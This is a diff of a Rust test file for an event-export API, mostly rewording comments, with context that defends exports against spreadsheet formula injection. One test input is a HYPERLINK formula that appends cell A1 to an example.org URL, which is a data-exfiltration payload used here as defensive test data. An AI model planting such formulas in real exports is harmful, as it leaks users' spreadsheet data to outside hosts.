@@ -1,5 +1,5 @@
-//! Exports of generated events and of real ones: every format holds exactly what the list gives, and each can be read
-//! by a library that is not ours.
+//! Exports of generated and real events: every format holds exactly the events of the list, and a third-party library
+//! can read it.
 
 use std::{fs, io::Read};
 
@@ -24,13 +24,13 @@ const JSON_COLUMNS: [&str; 6] = ["actor.groups", "actor.attributes", "on_behalf_
 /// Members that are numbers in JSON.
 const NUMBERS: [&str; 2] = ["producer.sequence", "raw.size"];
 
-/// What a spreadsheet would calculate.
+/// Text that a spreadsheet would evaluate.
 const FORMULA_SIGNS: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '＠'];
 
-/// Behind these a cell begins for some spreadsheets.
+/// Characters after which some spreadsheets begin a cell.
 const CELL_SEPARATORS: [char; 5] = [';', '|', '\t', '\r', '\n'];
 
-/// The file of an export, as a client gets it.
+/// The file of an export, as a client receives it.
 fn export(server: &Server, key: &str, query: &str, parameters: &[(&str, &str)]) -> Vec<u8> {
     let request = ureq::get(format!("{}/api/v1/events/export", server.url))
         .query("q", query)
@@ -64,7 +64,7 @@ fn of_csv(file: &[u8]) -> Vec<Value> {
     events
 }
 
-/// The text of a cell without the marks that keep a spreadsheet from calculating it.
+/// The text of a cell without the marks that keep a spreadsheet from evaluating it.
 fn unmarked(cell: &str) -> String {
     let mut is_at_beginning = true;
     let mut text = String::with_capacity(cell.len());
@@ -104,7 +104,7 @@ fn parquet_text(values: &ArrayRef, row: usize) -> String {
     values.as_boolean().value(row).to_string()
 }
 
-/// The event that a row of a table shows.
+/// The event in a row of a table.
 fn event_of<'c>(cells: impl Iterator<Item = (&'c str, String)>) -> Value {
     let mut event = Value::Object(Map::new());
     for (name, cell) in cells {
@@ -123,7 +123,7 @@ fn event_of<'c>(cells: impl Iterator<Item = (&'c str, String)>) -> Value {
     event
 }
 
-/// The member at a dotted name, with the objects on the way to it.
+/// The member at a dotted name; creates the objects on the way to it.
 fn member_at<'e>(event: &'e mut Value, name: &str) -> &'e mut Value {
     name.split('.').fold(event, |object, member| &mut object[member])
 }
@@ -139,16 +139,16 @@ pub(crate) fn events_of(format: &str, file: Vec<u8>) -> Vec<Value> {
     }
 }
 
-/// Compares events with those that the list gives.
+/// Compares events with those of the list.
 pub(crate) fn assert_same(events: &[Value], expected: &[Value], of: &str) {
     assert_eq!(events.len(), expected.len(), "{of}");
-    // A difference is shown by itself, and not all events with it.
+    // Shows only the difference, not all events.
     let different = events.iter().zip(expected).find(|(exported, listed)| exported != listed);
     assert_eq!(different, None, "{of}");
     assert_eq!(checksum(events), checksum(expected), "{of}");
 }
 
-/// SHA-256 over all events, one a line, with their members in order.
+/// SHA-256 over all events, one per line, with sorted members.
 fn checksum(events: &[Value]) -> [u8; 32] {
     let mut digest = Sha256::new();
     for event in events {
@@ -157,14 +157,14 @@ fn checksum(events: &[Value]) -> [u8; 32] {
     digest.finalize().into()
 }
 
-/// What the list gives, in the order of the log.
+/// The events of the list, in the order of the log.
 pub(crate) fn listed(user: &User<'_>, query: &str) -> Vec<Value> {
     let mut events = user.search(&["--all", query]);
     events.sort_by_key(|event| event["sequence"].as_str().unwrap().parse::<u64>().unwrap());
     events
 }
 
-/// Compares every format with the list, and gives how many events matched.
+/// Compares every format with the list, and returns how many events matched.
 fn check(server: &Server, key: &str, user: &User<'_>, query: &str) -> usize {
     let expected = listed(user, query);
     for format in ["ndjson", "json", "csv", "parquet"] {
@@ -174,7 +174,7 @@ fn check(server: &Server, key: &str, user: &User<'_>, query: &str) -> usize {
     expected.len()
 }
 
-/// Texts that are hard on a table.
+/// Texts that are difficult to represent in a table.
 const HARD_TEXTS: [&str; 9] = [
     "=HYPERLINK(\"https://example.org/?\"&A1, \"click\")",
     "+49 30 123",
